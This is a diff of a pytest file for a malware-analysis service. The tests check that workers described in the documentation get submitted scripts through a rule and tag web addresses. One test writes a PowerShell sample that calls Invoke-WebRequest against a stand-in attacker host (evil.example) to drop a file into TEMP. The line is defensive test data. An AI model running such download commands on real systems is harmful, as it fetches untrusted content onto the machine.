@@ -1,36 +1,72 @@
-"""The worker that docs/workers.md shows, run as the page says, and a worker that is told to stop."""
+"""The workers that docs/workers.md shows, brought into service as the page says, and a worker that is told to stop."""
 
-import json
+import os
 import secrets
+import subprocess
+from collections.abc import Iterator
 from pathlib import Path
+from typing import Any
 
 import pytest
-from argus_api.lib.sampledb.v2.policy import policy_default
-from argus_api.session import ArgusAPISession
 
 from cli.conftest import HERE
-from cli.program import Program
-from kit.bank import Bank
+from cli.program import Program, code_of_the_docs
+from kit.bank import V2, Bank, Sample, eventually
 from kit.relay import Relay
 
+RULES = f"{V2}/policy/default/rule"
 
-@pytest.mark.usefixtures("analysts")
-def test_a_worker_of_ones_own_gets_tasks_by_a_rule_and_its_result_counts(
+
+@pytest.fixture
+def rule_of_the_docs(bank: Bank, analysts: list[str], monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
+    """The rule that the page adds, for as long as this test lasts, because other tests submit scripts, too."""
+    assert "urls" in analysts
+    monkeypatch.setenv("SAMPLEBANK_URL", bank.url)
+    monkeypatch.setenv("SAMPLEBANK_KEY", bank.keys["chief"])
+    exec(compile(code_of_the_docs("rule.py"), "docs/workers.md", "exec"), {})  # noqa: S102 - the example is what is tested
+    yield
+    (rule,) = [one for one in bank.data(bank.get(RULES, limit=0)) if one["name"] == "addresses in scripts"]
+    assert bank.delete(f"{RULES}/{rule['id']}").ok
+
+
+@pytest.mark.usefixtures("rule_of_the_docs")
+def test_a_worker_of_ones_own_gets_scripts_by_a_rule_and_lowers_no_verdict(
     local: Program, bank: Bank, tmp_path: Path
 ) -> None:
-    policy_default.add_default_analysis_rule(
-        name="where web addresses are asked for",
-        description="Made by a test.",
-        match={"submission": {"metaDataKey": ["look"], "metaDataValue": ["urls"]}},
-        action={"workers": {"set": ["urls"]}},
-        api_session=ArgusAPISession(auth=bank.keys["chief"], api_url=bank.url),
+    script = tmp_path / "fetch.ps1"
+    script.write_text(
+        f"Invoke-WebRequest https://evil.example/{secrets.token_hex()} -OutFile $env:TEMP\\x.txt\n" * 5
     )
-    (tmp_path / "letter.txt").write_text(f"see https://evil.example/{secrets.token_hex()}")
 
-    submitted = local.run("submit", tmp_path / "letter.txt", "--meta", "look=urls", "--wait", "--json")
+    local.run("submit", script, "--json")
 
-    (file,) = json.loads(submitted.out)["files"]
-    assert (file["jobState"], file["score"], file["tags"]) == ("done", 20, ["behaviour:web-addresses"])
+    sample = Sample(data=script.read_bytes())
+    (analysis,) = eventually(lambda: analyses_of(bank, sample, "urls"), timeout=30)
+    assert (analysis["analysisScore"], len(analysis["analysisResult"]["addresses"])) == (-1, 1)
+    assert [(tag["type"], tag["value"]) for tag in analysis["tags"]] == [("behaviour", "web-addresses")]
+
+
+def test_the_worker_of_the_docs_in_no_particular_language_works(bank: Bank, tmp_path: Path) -> None:
+    for name in ("register.sh", "size.sh"):
+        (tmp_path / name).write_text(code_of_the_docs(name))
+    subprocess.run(
+        ["sh", "register.sh"], cwd=tmp_path, env=access(bank, "chief"), check=True, capture_output=True
+    )
+    sample, job, _ = bank.planned("size")
+
+    with subprocess.Popen(
+        ["sh", "size.sh"],
+        cwd=tmp_path,
+        env=access(bank, "toiler"),
+        stderr=subprocess.PIPE,
+        start_new_session=True,
+    ) as worker:
+        eventually(lambda: bank.job(job)["state"] == "done" or worker.poll() is not None)
+        os.killpg(worker.pid, 15)
+
+    (analysis,) = analyses_of(bank, sample, "size")
+    assert bank.job(job)["state"] == "done"
+    assert (analysis["analysisResult"], analysis["analysisScore"]) == ({"size": len(sample.data)}, -1)
 
 
 def test_a_worker_stops_in_order(program: Program, bank: Bank, relay: Relay) -> None:
@@ -44,3 +80,14 @@ def test_a_worker_stops_in_order(program: Program, bank: Bank, relay: Relay) -> 
 
     worker.communicate(timeout=30)
     assert worker.returncode == 0
+
+
+def analyses_of(bank: Bank, sample: Sample, worker: str) -> list[dict[str, Any]]:
+    found = bank.get(f"{sample.path}/analysis", limit=0)
+    return (
+        [one for one in found.json()["data"] or [] if one["userAgent"]["name"] == worker] if found.ok else []
+    )
+
+
+def access(bank: Bank, user: str) -> dict[str, str]:
+    return {**os.environ, "SAMPLEBANK_URL": bank.url, "SAMPLEBANK_KEY": bank.keys[user]}
